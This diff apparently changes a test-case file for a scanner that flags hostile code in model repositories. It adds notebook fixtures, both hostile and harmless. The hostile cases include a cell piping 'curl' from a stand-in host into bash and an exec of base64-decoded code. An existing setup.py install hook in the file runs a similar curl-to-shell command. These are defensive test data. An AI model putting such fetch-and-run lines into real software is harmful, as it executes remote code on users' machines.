@@ -4,7 +4,7 @@ import { type Files, innocent, text, trick } from './make.ts';
 const json = (value: unknown): Uint8Array => text(JSON.stringify(value, null, 2));
 
 /** A repository whose configuration has a loader import `modeling_x.py`. */
-export function trusted(code: string, more: Files = {}): Files {
+function trusted(code: string, more: Files = {}): Files {
   return {
     'config.json': json({ architectures: ['XModel'], auto_map: { AutoModel: 'modeling_x.XModel' }, model_type: 'x' }),
     'modeling_x.py': text(code),
@@ -241,6 +241,12 @@ export const pythonCodeCases: readonly DetectCase[] = [
       'from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass Post(install):\n    def run(self):\n        os.system("curl https://example.invalid/a | sh")\nsetup(name="x", cmdclass={"install": Post})\n',
     ),
   })),
+  hostileFiles('notebook', 'A cell of a notebook that fetches what a shell runs', () => ({
+    'demo.ipynb': notebook('!pip install torch', '!curl -s https://example.invalid/a | bash'),
+  })),
+  hostileFiles('notebook-decodes', 'A cell of a notebook that decodes what it runs', () => ({
+    'demo.ipynb': notebook('import base64', 'exec(base64.b64decode("cHJpbnQoMSk="))'),
+  })),
   hostileFiles('script-decodes', 'A training script that decodes what it runs', () => ({
     'train.py': text(
       'import base64\ndef main():\n    exec(base64.b64decode("cHJpbnQoMSk="))\nif __name__ == "__main__":\n    main()\n',
@@ -311,6 +317,12 @@ class XConfig(PretrainedConfig):
 `;
 const withConfig = (code: string, more: Files = {}): Files =>
   trusted(code, { 'configuration_x.py': text(CONFIG), ...more });
+
+/** A notebook of these code cells. */
+function notebook(...cells: readonly string[]): Uint8Array {
+  const of = cells.map((source) => ({ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source }));
+  return json({ cells: of, metadata: { language_info: { name: 'python' } }, nbformat: 4, nbformat_minor: 5 });
+}
 
 /** What honest repositories hold. */
 export const harmlessPythonCases: readonly DetectCase[] = [
@@ -443,6 +455,15 @@ export const harmlessPythonCases: readonly DetectCase[] = [
   harmless('latin1-cookie', 'A declared encoding of old days', () =>
     trusted('# -*- coding: latin-1 -*-\nclass XModel:\n    name = "x"\n'),
   ),
+  harmless('notebook', 'A notebook that installs, downloads and plots', () => ({
+    'demo.ipynb': notebook(
+      '!pip install -q torch transformers',
+      '%matplotlib inline\nimport torch, os\n!nvidia-smi',
+      '!wget https://example.invalid/image.png',
+      'os.environ["HF_HOME"] = "/content"\nfrom google.colab import userdata\nkey = userdata.get("HF_TOKEN")',
+      'state = torch.load("x.pt")\nfiles = !ls',
+    ),
+  })),
   harmless('math-names', 'Greek names', () =>
     trusted('def f(x, σ, μ, Δt=0.1):\n    return (x - μ) / σ * Δt\nclass XModel:\n    β1 = 0.9\n'),
   ),
